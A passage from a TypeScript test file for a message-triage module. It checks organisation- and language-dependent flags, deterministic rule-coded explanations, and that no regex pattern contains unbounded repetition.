    const message = 'Which vendor has a solution for shared accounts?';
    expect(triaged('demand', message, { organisation: 'Waterschap Voorbeeld' }).flags).toEqual(['asset-owner']);
    expect(triaged('demand', message, { organisation: 'Adviesbureau Voorbeeld' }).flags).toEqual([]);
  });

  it('reads "stage" as an internship in Dutch alone', () => {
    expect(triaged('other', 'Ik zoek een leuke stage.', { language: 'nl' }).flags).toContain('talent');
    expect(triaged('innovation', 'Our sensor is at lab stage.').flags).toEqual([]);
  });

  it('says by which rules, and answers the same when asked again', () => {
    const codes = new Set(RULES.map(({ code }) => code));
    for (const [kind, , language, subject, message] of CASES) {
      const found = triageOf({ kind, subject, message, language });
      expect(triageOf({ kind, subject, message, language })).toEqual(found);
      expect(found.why.length).toBeGreaterThan(0);
      for (const code of found.why) expect(code === 'declared' || codes.has(code) || /^(guard|flag)\./.test(code)).toBe(true);
      for (const flag of found.flags) expect(TRIAGE_FLAGS).toContain(flag);
      expect(new Set(found.flags).size).toBe(found.flags.length);
    }
  });

  it('repeats nothing without a bound in any pattern', () => {
    const patterns = [
      ...Object.values(TRIAGE_WORDS),
      ...SPAM.map(([, pattern]) => pattern),
      ...RULES.flatMap(({ all, unless }) => [...all, ...(unless ? [unless] : [])]),
    ];
    expect(patterns.length).toBeGreaterThan(60);
    const unbounded = (source: string) =>
      source
        .replaceAll(/\\./g, 'x')
        .replaceAll(/\[[^\]]*\]/g, 'x')
        .match(/[*+]|\{\d+,\}/g) ?? [];
    expect(patterns.filter(({ source }) => unbounded(source).length > 0)).toEqual([]);
  });
});
